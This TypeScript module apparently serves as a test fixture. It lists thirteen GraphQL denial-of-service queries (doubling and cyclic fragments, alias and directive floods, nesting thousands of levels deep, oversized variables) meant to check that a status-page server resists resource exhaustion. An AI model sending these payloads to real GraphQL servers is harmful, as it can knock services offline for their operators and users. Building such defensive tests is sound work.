export interface Attack {
  name: string;
  /** Of a query; over a socket the same is asked of a subscription. */
  query: string;
  /** As JSON, which may be too deep for whoever would make it of an object. */
  variables?: string;
}

const count = (length: number, part: (n: number) => string) => Array.from({ length }, (_, n) => part(n)).join(' ');

const DOUBLING = `query { ...f0 } ${count(26, (n) => `fragment f${n} on Query { ...f${n + 1} ...f${n + 1} }`)} fragment f26 on Query { __typename }`;

/** The request as JSON. */
export function bodyOf({ query, variables = '{}' }: Omit<Attack, 'name'>): string {
  return `{"query":${JSON.stringify(query)},"variables":${variables}}`;
}

/** Each is one document that is short or simple, and would take a server that does not measure it seconds or more. */
export const ATTACKS: readonly Attack[] = [
  { name: 'fragments that double', query: DOUBLING },
  {
    name: 'fragments that lead into themselves',
    query: 'query { ...a } fragment a on Query { ...b } fragment b on Query { ...a }',
  },
  { name: '2,000 aliases', query: `query { ${count(2_000, (n) => `a${n}: __typename`)} }` },
  {
    name: '60 levels',
    query: `query { statusPage ${'{ groups { components { group '.repeat(20)} { id } ${'} } }'.repeat(20)} }`,
  },
  { name: '30,000 tokens', query: `query { ${'x '.repeat(30_000)} }` },
  { name: '2,000 directives', query: `query { __typename ${'@include(if: true) '.repeat(2_000)} }` },
  { name: '10,000 levels of brackets', query: `query { f(a: ${'['.repeat(10_000)}${']'.repeat(10_000)}) }` },
  { name: '7,000 levels of brackets', query: `query { f(a: ${'['.repeat(7_000)}${']'.repeat(7_000)}) }` },
  { name: '4,900 levels', query: `query ${'{ a '.repeat(4_900)}${'}'.repeat(4_900)}` },
  { name: '7,000 levels of a type', query: `query ($a: ${'['.repeat(7_000)}ID${']'.repeat(7_000)}) { __typename }` },
  {
    name: '1,600 fragments in a row',
    query: `query { ...f0 } ${count(1_600, (n) => `fragment f${n} on Query { ...f${n + 1} }`)} fragment f1600 on Query { nothing }`,
  },
  {
    name: 'variables of 30,000 levels',
    query: 'query ($all: [ID!]) { components(filter: { groupIds: $all }) { totalCount } }',
    variables: `{"all":${'['.repeat(30_000)}${']'.repeat(30_000)}}`,
  },
  {
    name: '5 MB of variables',
    query: 'query ($all: [ID!]) { __typename @include(if: true) }',
    variables: `{"all":["${'x'.repeat(5 * 1024 * 1024)}"]}`,
  },
];
